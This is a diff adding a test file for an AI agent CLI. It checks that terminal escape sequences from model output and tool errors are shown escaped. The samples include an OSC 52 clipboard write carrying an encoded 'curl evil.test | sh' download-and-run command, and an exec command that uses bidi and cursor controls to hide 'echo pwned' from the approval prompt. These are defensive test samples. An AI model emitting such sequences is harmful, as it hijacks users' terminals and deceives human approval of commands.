@@ -1,0 +1,87 @@
+// Escape sequences from the model and from tools reach the real CLI's stdout and stderr escaped, never as
+// live controls: OSC 52 clipboard writes, title changes, clear screen, cursor moves, bidi overrides, C1.
+import { spawn } from 'node:child_process';
+import { join, resolve } from 'node:path';
+import { PassThrough } from 'node:stream';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { runCli } from '../../src-main/host/cli/main';
+import { startScriptedLlm, type ScriptedLlm } from '../helpers/scripted-llm-server';
+import { makeTempHome, testConfig, type TempHome } from '../helpers/temp-home';
+
+const ROOT = resolve(__dirname, '../..');
+const BIN = join(ROOT, 'bin', 'nanotray.mjs');
+
+/** Every sequence an attacker would send a terminal, one after the other. */
+const HOSTILE = [
+  '\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07', // OSC 52: put a command on the clipboard
+  '\x1b]0;innocent title\x07', // window title
+  '\x1b[2J\x1b[H', // clear screen, cursor home
+  '\x1b[1A\x1b[2K', // cursor up, erase the line
+  '\u202eevil\u202c', // right-to-left override
+  '\u009b31m', // C1 CSI
+  'back\bspace and a lone\rreturn',
+].join(' ');
+
+/** Anything a terminal would act on; CR is allowed only right before LF. */
+const LIVE_CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;
+
+let llm: ScriptedLlm;
+let home: TempHome;
+beforeAll(async () => {
+  llm = await startScriptedLlm();
+});
+afterAll(() => llm.close());
+afterEach(() => home?.cleanup());
+
+function runBin(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
+  return new Promise((r) => {
+    const child = spawn(process.execPath, [BIN, ...args], {
+      cwd: ROOT,
+      env: { PATH: process.env.PATH, HOME: home.home, NANOTRAY_HOME: home.home },
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
+    let stdout = '';
+    let stderr = '';
+    child.stdout.on('data', (d) => (stdout += d));
+    child.stderr.on('data', (d) => (stderr += d));
+    child.on('close', (code) => r({ code, stdout, stderr }));
+  });
+}
+
+describe('the CLI shows hostile text escaped', () => {
+  it("the model's streamed answer and a tool's error, in a real `nanotray agent -m`", async () => {
+    home = makeTempHome(testConfig(llm.baseUrl));
+    llm.enqueue(
+      { toolCalls: [{ name: 'read_file', arguments: { path: `missing ${HOSTILE}.txt` } }] },
+      { text: ['Here:\n\tindented ', HOSTILE.slice(0, 3), HOSTILE.slice(3), '\r\nend'] },
+    );
+    const { code, stdout, stderr } = await runBin(['agent', '-m', 'hi']);
+    expect(code).toBe(0);
+    for (const [name, out] of [['stdout', stdout], ['stderr', stderr]] as const) expect([name, LIVE_CONTROL.exec(out)?.[0]]).toEqual([name, undefined]);
+    expect(stdout).toContain('Here:\n\tindented \\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\\x07');
+    expect(stdout).toContain('\\u{202e}evil\\u{202c} \\x9b31m back\\x08space and a lone\\x0dreturn\r\nend');
+    expect(stderr).toContain('\\x1b]0;innocent title\\x07');
+  });
+
+  it('the approval prompt on a terminal shows the escaped command, so nothing can hide part of it', async () => {
+    home = makeTempHome(testConfig(llm.baseUrl, { tools: { approval: { mode: 'ask' } } }));
+    llm.enqueue({ toolCalls: [{ name: 'exec', arguments: { command: `echo hi \u202e; echo pwned \u009b1A # ${HOSTILE}` } }] }, { text: 'ok' });
+    const stdin = new PassThrough();
+    const stdout = new PassThrough();
+    const stderr = new PassThrough();
+    let out = '';
+    let err = '';
+    stdout.on('data', (d) => (out += d));
+    stderr.on('data', (d) => {
+      err += d;
+      if (String(d).includes('Allow?')) stdin.write('n\n');
+    });
+    const code = await runCli(['agent', '-m', 'go'], { stdin, stdout, stderr, env: { NANOTRAY_HOME: home.home }, isTty: true });
+    expect(code).toBe(0);
+    expect(err).toContain('Approval needed: exec');
+    // JSON already writes ESC as \u001b; the bidi override and the C1 CSI it leaves as they are, the CLI does not.
+    expect(err).toContain('echo hi \\u{202e}; echo pwned \\x9b1A # \\u001b]52;c;');
+    expect(LIVE_CONTROL.exec(err)).toBeNull();
+    expect(LIVE_CONTROL.exec(out)).toBeNull();
+  });
+});
